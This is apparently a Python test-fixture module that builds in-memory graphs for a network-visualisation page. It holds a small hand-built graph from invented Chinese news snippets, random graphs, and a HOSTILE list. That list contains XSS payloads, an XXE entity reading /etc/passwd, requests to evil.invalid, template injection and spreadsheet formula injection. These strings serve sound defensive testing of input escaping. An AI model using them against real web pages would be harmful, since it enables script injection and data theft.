"""Graphs in memory for the page: a small one with known answers, a hostile one, and random ones of any size.

The texts are inventions.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field

from bingdi.graph.model import (
    DIRECTED,
    Document,
    EntityType,
    Mention,
    Relation,
    digest_id,
    document_id,
    entity_id,
    link_id,
)
from bingdi.graph.network.rows import EvidenceRow, LinkRow, NodeRow


@dataclass
class Rows:
    """A projection held in lists, with the mentions of its documents."""

    node_rows: dict[str, NodeRow] = field(default_factory=dict)
    link_rows: dict[str, LinkRow] = field(default_factory=dict)
    evidence_rows: list[EvidenceRow] = field(default_factory=list)
    document_rows: dict[str, Document] = field(default_factory=dict)
    mention_rows: list[Mention] = field(default_factory=list)

    def nodes(self) -> Iterator[NodeRow]:
        return iter(sorted(self.node_rows.values(), key=lambda node: node.id))

    def links(self) -> Iterator[LinkRow]:
        return iter(sorted(self.link_rows.values(), key=lambda link: link.id))

    def evidence(self) -> Iterator[EvidenceRow]:
        return iter(sorted(self.evidence_rows, key=lambda row: (row.link, row.id)))

    def documents(self) -> Iterator[Document]:
        return iter(sorted(self.document_rows.values(), key=lambda document: document.id))

    def mentions(self) -> Iterator[Mention]:
        return iter(self.mention_rows)

    def entity(self, kind: str, name: str, *aliases: str, code: str = "", unit: str = "", **rest: object) -> str:
        """Add an entity; ``unit`` is a name, ``=`` for itself."""
        key = entity_id(EntityType(kind), name, code)
        owner = {"=": (key, name), "": ("", "")}.get(unit) or self._unit(unit)
        self.node_rows[key] = NodeRow(
            id=key,
            name=name,
            type=EntityType(kind),
            aliases=aliases,
            code=code,
            unit=owner[0],
            unit_name=owner[1],
            **{
                "unit_reason": "part_of" if unit not in ("", "=") else "",
                "mentions": 1,
                "documents": 1,
                **rest,
            },
        )
        return key

    def _unit(self, name: str) -> tuple[str, str]:
        found = [node.id for node in self.node_rows.values() if node.name == name]
        return (found[0] if found else digest_id("unit", name)), name

    def document(self, text: str, **fields: str) -> Document:
        document = Document(
            id=document_id(text, fields.get("url", ""), fields.get("name", "")),
            text=text,
            **{"name": "样本", **fields},
        )
        self.document_rows[document.id] = document
        return document

    def state(self, document: Document, head: str, relation: str, tail: str, quote: str, **options: object) -> LinkRow:
        """Add an evidence by the keys of its ends; ``heads``, ``tails``, ``trigger`` are surfaces in the quote."""
        kind = Relation(relation)
        surfaces = [
            str(options.pop("heads", self.node_rows[head].name)),
            str(options.pop("tails", self.node_rows[tail].name)),
        ]
        if kind not in DIRECTED and head > tail:
            head, tail, surfaces = tail, head, surfaces[::-1]
        start = document.text.index(quote)
        trigger = options.pop("trigger", None)
        link = self._link(head, kind, tail)
        self.evidence_rows.append(
            EvidenceRow(
                id=digest_id(link.id, document.id, str(start), str(len(self.evidence_rows))),
                link=link.id,
                part=link.id,
                head_name=self.node_rows[head].name,
                tail_name=self.node_rows[tail].name,
                relation=kind,
                document=document.id,
                title=document.title,
                publisher=document.publisher,
                published=document.date,
                url=document.url,
                start=start,
                end=start + len(quote),
                quote=quote,
                head=_find(surfaces[0], quote, start),
                tail=_find(surfaces[1], quote, start),
                trigger=_find(str(trigger), quote, start) if trigger else None,
                **{"rule": "hand", "confidence": 0.9, **options},
            )
        )
        return link

    def _link(self, head: str, kind: Relation, tail: str) -> LinkRow:
        key = link_id(head, kind, tail)
        known = self.link_rows.get(key)
        link = LinkRow(
            id=key,
            head=head,
            relation=kind,
            tail=tail,
            directed=kind in DIRECTED,
            weight=known.weight + 1 if known else 1,
            documents=1,
        )
        self.link_rows[key] = link
        return link

    def mention(self, document: Document, key: str, surface: str) -> None:
        start = document.text.index(surface)
        self.mention_rows.append(
            Mention(
                document=document.id,
                start=start,
                end=start + len(surface),
                surface=surface,
                type=self.node_rows[key].type,
                entity=key,
                rule="hand",
            )
        )


def _find(surface: str, quote: str, start: int) -> tuple[int, int]:
    at = start + quote.index(surface)
    return at, at + len(surface)


def small() -> Rows:
    """Nineteen entities and twenty-one links whose answers the tests spell out."""
    rows = Rows()
    corps = rows.entity("corps", "新疆生产建设兵团", "兵团", code="XPCC", unit="=")
    twelfth = rows.entity("division", "第十二师", "十二师", "12师", "农十二师", code="XPCC-12", unit="=", mentions=9)
    first = rows.entity("division", "第一师", "一师", code="XPCC-01", unit="=")
    eighth = rows.entity("division", "第八师", "八师", code="XPCC-08", unit="=")
    district = rows.entity("locality", "头屯河区", "开发区", code="650106", unit="=")
    aksu = rows.entity("locality", "阿克苏地区", "阿克苏", code="652900", unit="=")
    tianjin = rows.entity("locality", "天津市", "天津", code="120000", unit="=")
    zhejiang = rows.entity("locality", "浙江省", "浙江", code="330000", unit="=")
    chongqing = rows.entity("locality", "重庆市", "重庆", code="500000", unit="=")
    shihezi = rows.entity("locality", "石河子市", code="659001", unit="=")
    regiment = rows.entity("regiment", "一〇四团", "104团", code="XPCC-12-104", unit="第十二师")
    office = rows.entity("institution", "一〇四团党委统战部", unit="第十二师")
    bureau = rows.entity("institution", "头屯河区民宗局", "开发区民宗局", unit="头屯河区")
    hospital = rows.entity("institution", "天津市河畔医院", unit="天津市")
    school = rows.entity("institution", "昆玉河畔学校", unit="第十四师")
    park = rows.entity("site", "河谷湿地公园", unit="头屯河区")
    pact = rows.entity("agreement", "《河谷共建协议》")
    fair = rows.entity("initiative", "首届瓜果节")
    rows.entity("institution", "孤立研究所")

    pledge = rows.document(
        "😀一〇四团党委统战部与开发区民宗局签订《河谷共建协议》。双方将联合举办首届瓜果节。一〇四团是十二师的团。",
        name="结对", title="两部门结对", publisher="河畔日报", date="2023-08-12", url="https://example.org/pledge?a=1&b=2",
    )  # fmt: skip
    sentence = "😀一〇四团党委统战部与开发区民宗局签订《河谷共建协议》。"
    signed = {"heads": "一〇四团党委统战部", "tails": "开发区民宗局", "trigger": "签订", "date": "2023-08-11"}
    rows.state(
        pledge,
        office,
        "signs_agreement_with",
        bureau,
        sentence,
        **signed,
        status="done",
        fields=("民族团结",),
    )
    rows.state(pledge, office, "party_to", pact, sentence, trigger="签订", date="2023-08-11")
    rows.state(pledge, bureau, "party_to", pact, sentence, heads="开发区民宗局", trigger="签订", date="2023-08-11")
    rows.state(pledge, office, "co_hosts", bureau, "双方将联合举办首届瓜果节。", heads="双方", tails="双方",
               trigger="联合举办", status="planned", fields=("文化",), confidence=0.6)  # fmt: skip
    rows.state(pledge, office, "party_to", fair, "双方将联合举办首届瓜果节。", heads="双方", status="planned")
    rows.state(pledge, office, "part_of", regiment, sentence, heads="一〇四团党委统战部", tails="一〇四团")
    rows.state(pledge, regiment, "part_of", twelfth, "一〇四团是十二师的团。", tails="十二师")
    rows.mention(pledge, fair, "首届瓜果节")

    work = rows.document(
        "第十二师和头屯河区共同治理河道。2021年，第十二师与头屯河区共建河谷湿地公园。第十二师与头屯河区相邻。"
        "第十二师隶属兵团。第一师隶属兵团。第八师隶属兵团。",
        name="共建", title="河谷共建记", publisher="垦区报", date="2022",
    )  # fmt: skip
    rows.state(
        work,
        twelfth,
        "co_builds",
        district,
        "第十二师和头屯河区共同治理河道。",
        trigger="共同治理",
        confidence=0.7,
    )
    rows.state(work, twelfth, "co_builds", district, "2021年，第十二师与头屯河区共建河谷湿地公园。", trigger="共建",
               date="2021", status="done", fields=("生态",))  # fmt: skip
    rows.state(work, twelfth, "adjoins", district, "第十二师与头屯河区相邻。", trigger="相邻")
    rows.state(work, twelfth, "party_to", park, "2021年，第十二师与头屯河区共建河谷湿地公园。", date="2021")
    for division, name in ((twelfth, "第十二师"), (first, "第一师"), (eighth, "第八师")):
        rows.state(work, division, "part_of", corps, f"{name}隶属兵团。", tails="兵团")

    aid = rows.document(
        "浙江省援建第一师医院。2019年5月，浙江省向第一师捐赠图书。天津市河畔医院向十二师派出医生。"
        "第一师与阿克苏地区合作办学。石河子市与八师开展交流。重庆市向昆玉河畔学校捐赠桌椅。浙江援助阿克苏。",
        name="援建", title="援建三则", publisher="", date="2020-01-05", url="javascript:alert(1)",
    )  # fmt: skip
    rows.state(aid, zhejiang, "aids", first, "浙江省援建第一师医院。", trigger="援建", fields=("医疗",), date="2018")
    rows.state(aid, zhejiang, "aids", first, "2019年5月，浙江省向第一师捐赠图书。", trigger="捐赠", date="2019-05",
               status="done", fields=("教育",))  # fmt: skip
    rows.state(aid, hospital, "aids", twelfth, "天津市河畔医院向十二师派出医生。", tails="十二师", trigger="派出",
               date="2020-03", date_end="2022-06", status="ongoing", fields=("医疗",))  # fmt: skip
    rows.state(aid, first, "co_builds", aksu, "第一师与阿克苏地区合作办学。", trigger="合作办学", fields=("教育",))
    rows.state(
        aid,
        shihezi,
        "exchanges_with",
        eighth,
        "石河子市与八师开展交流。",
        tails="八师",
        trigger="交流",
        date="2024",
    )
    rows.state(aid, chongqing, "aids", school, "重庆市向昆玉河畔学校捐赠桌椅。", trigger="捐赠", confidence=0.4)
    rows.state(
        aid,
        zhejiang,
        "aids",
        aksu,
        "浙江援助阿克苏。",
        heads="浙江",
        tails="阿克苏",
        trigger="援助",
        date="2019",
    )
    rows.state(aid, hospital, "located_in", tianjin, "天津市河畔医院", tails="天津市")
    return rows


HOSTILE = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=2</script>",
    "</SCRIPT ><img src=x onerror=window.hacked=3>",
    "<img src=x onerror=window.hacked=4>",
    "<svg/onload=window.hacked=5>",
    "<svg><script>window.hacked=6</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=7</script>'></iframe>",
    "<a href='javascript:window.hacked=8'>x</a>",
    "<body onload=window.hacked=9>",
    "<details open ontoggle=window.hacked=10>",
    "<input autofocus onfocus=window.hacked=11>",
    "<style>*{display:none!important}</style>",
    "</style><style>body{background:url(http://evil.invalid/a)}</style>",
    "<link rel=stylesheet href=http://evil.invalid/b.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/c'>",
    "<base href=http://evil.invalid/>",
    "<form action=http://evil.invalid/d><button>go</button></form>",
    "<object data=http://evil.invalid/e></object>",
    "<embed src=http://evil.invalid/f>",
    "<video src=x onerror=window.hacked=12></video>",
    "<math><mtext><script>window.hacked=13</script></mtext></math>",
    "<template><script>window.hacked=14</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=15>'>",
    "<textarea></textarea><script>window.hacked=16</script>",
    "</title><script>window.hacked=17</script>",
    "</textarea><script>window.hacked=18</script>",
    "<!--<script>window.hacked=19</script>-->",
    "<!-- <script> unclosed",
    "<![CDATA[<script>window.hacked=20</script>]]>",
    "]]><script>window.hacked=21</script>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;window.hacked=22&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=23&#62;",
    "&amp;amp; &nbsp; &copy",
    "javascript:window.hacked=24",
    "JaVaScRiPt:window.hacked=25",
    " javascript:window.hacked=26",
    "java\tscript:window.hacked=27",
    "data:text/html,<script>window.hacked=28</script>",
    "vbscript:msgbox(1)",
    "http://javascript:window.hacked=29@evil.invalid/",
    "https://evil.invalid/\"onmouseover=window.hacked=30 x=\"",
    "//evil.invalid/g.js",
    "file:///etc/passwd",
    "\" onmouseover=\"window.hacked=31\" x=\"",
    "' onfocus='window.hacked=32' x='",
    "` onclick=`window.hacked=33`",
    "{{7*7}}{{constructor.constructor('window.hacked=34')()}}",
    "${window.hacked=35}",
    "#{7*7} <%= 7*7 %> {% raw %}",
    "\\u003cscript\\u003ewindow.hacked=36\\u003c/script\\u003e",
    "\\\"});window.hacked=37;//",
    "'];window.hacked=38;//",
    "\u202etxt.exe\u202d\u2066反转\u2069",
    "\u200b零宽\u200d\u2060名\ufeff",
    "行\u2028分\u2029隔",
    "换\n行\r\n与\t制表",
    "控\u0001制\u0008字\u001b符\u007f",
    "=HYPERLINK(\"http://evil.invalid\",\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "a,b;\"c\"\t'd'",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "null",
    "undefined",
    "NaN",
    "😀🏳️‍🌈𠮷野家𝒳",
    "Z͑ͫ̓ͪ̂ͫ̽a̴l̶g̷o̸",
    "中" * 400,
    "W" * 300,
    "#node=x&view=matrix",
    "%00%3Cscript%3E",
    "~!*'();:@&=+$,/?#[]",
    "a~aids~b",
)  # fmt: skip
"""Texts that try to run, to leave, to break markup, quoting, files or the layout."""


def hostile() -> Rows:
    """A division and a locality for each hostile text, which stands in every field of both and of what links them."""
    rows = Rows()
    for number, text in enumerate(HOSTILE):
        head = rows.entity("division", text, f"甲{text}", code=text, unit="=", unit_reason=text)
        tail = rows.entity("locality", f"乙{text}", text, unit=("=", text)[number % 2], unit_reason=text)
        body = f"前文{number}。{text}与乙{text}共建{text}园区。"
        document = rows.document(
            body,
            name=text,
            title=text,
            publisher=text,
            date=("2020", text)[number % 2],
            url=text,
            origin=text,
        )
        options = {"trigger": "共建", "fields": (text,), "rule": text, "date": "2021" if number % 3 else ""}
        rows.state(document, head, "co_builds", tail, body[body.index("。") + 1 :], **options)
        rows.mention(document, tail, f"乙{text}")
    return rows


CHARACTERS = "东西南北山河湖海天云雨林石金水木土火日月星辰春夏秋冬青红白黄大小新老上下长安和平"
PUBLISHERS = ("河畔日报", "垦区报", "丝路网", "")
FIELDS = ("产业", "教育", "医疗", "文化", "人才", "生态")


def sized(entities: int, links: int, *, seed: int = 1) -> Rows:
    """A random graph of so many entities and distinct links, one unit among twenty; a few have many links."""
    chance = random.Random(seed)
    rows = Rows()
    keys = _random_entities(rows, chance, entities)
    statements: dict[str, tuple[str, Relation, str]] = {}
    relations = list(Relation)
    while len(statements) < links:
        head = keys[int(len(keys) * chance.random() ** 2)]
        tail = keys[int(len(keys) * chance.random() ** 1.5)]
        relation = chance.choice(relations)
        if head != tail:
            statements.setdefault(link_id(head, relation, tail), (head, relation, tail))
    pending = list(statements.values())
    for at in range(0, len(pending), 40):
        _random_document(rows, chance, pending[at : at + 40])
    return rows


def _random_entities(rows: Rows, chance: random.Random, entities: int) -> list[str]:
    keys: list[str] = []
    units = max(4, entities // 20)
    suffixes = {
        "regiment": "团",
        "institution": "局",
        "site": "公园",
        "agreement": "协议",
        "initiative": "行动",
    }
    owners: list[str] = []
    for number in range(entities):
        stem = "".join(chance.choices(CHARACTERS, k=3))
        if number < units:
            kind, name = ("division", f"第{number}{stem}师") if number % 4 == 0 else ("locality", f"{stem}{number}县")
            owners.append(name)
            keys.append(entity_id(EntityType(kind), name))
            unit = (keys[-1], name)
        else:
            kind = chance.choice(list(suffixes))
            name = f"{stem}{number}{suffixes[kind]}"
            keys.append(entity_id(EntityType(kind), name))
            owner = chance.randrange(units)
            unit = (keys[owner], owners[owner]) if number % 10 else ("", "")
        rows.node_rows[keys[-1]] = NodeRow(
            id=keys[-1], name=name, type=EntityType(kind), aliases=(name[:3],) if number % 3 == 0 else (),
            unit=unit[0], unit_name=unit[1], mentions=1, documents=1,
        )  # fmt: skip
    return keys


def _random_document(rows: Rows, chance: random.Random, statements: list[tuple[str, Relation, str]]) -> None:
    pieces = []
    for head, relation, tail in statements:
        ends = sorted((head, tail)) if relation not in DIRECTED else [head, tail]
        names = [rows.node_rows[key].name for key in ends]
        time = chance.choice(("", f"{chance.randint(2012, 2025)}年，"))
        pieces.append((ends, relation, names, f"{time}{names[0]}与{names[1]}在{chance.choice(CHARACTERS)}河边合作。"))
    number = len(rows.document_rows)
    document = rows.document(
        "".join(piece[3] for piece in pieces),
        name=f"随机{number}",
        title=f"第{number}篇报道",
        publisher=chance.choice(PUBLISHERS),
        date=f"{chance.randint(2012, 2025)}-{chance.randint(1, 12):02d}",
        url=f"https://example.org/{number}",
    )
    at = 0
    for ends, relation, names, quote in pieces:
        link = rows._link(ends[0], relation, ends[1])
        first = at + quote.index(names[0])
        second = at + quote.rindex(names[1])
        rows.evidence_rows.append(
            EvidenceRow(
                id=digest_id(link.id, document.id, str(at)), link=link.id, part=link.id, head_name=names[0],
                tail_name=names[1], relation=relation, document=document.id, title=document.title,
                publisher=document.publisher, published=document.date, url=document.url, start=at, end=at + len(quote),
                quote=quote, head=(first, first + len(names[0])), tail=(second, second + len(names[1])),
                trigger=(at + len(quote) - 3, at + len(quote) - 1), date=quote[:4] if quote[4:5] == "年" else "",
                status=chance.choice(("", "done", "ongoing", "planned")), rule="random",
                fields=tuple(chance.sample(FIELDS, k=chance.choice((0, 1, 2)))),
                confidence=round(0.3 + 0.7 * chance.random(), 2),
            )
        )  # fmt: skip
        at += len(quote)
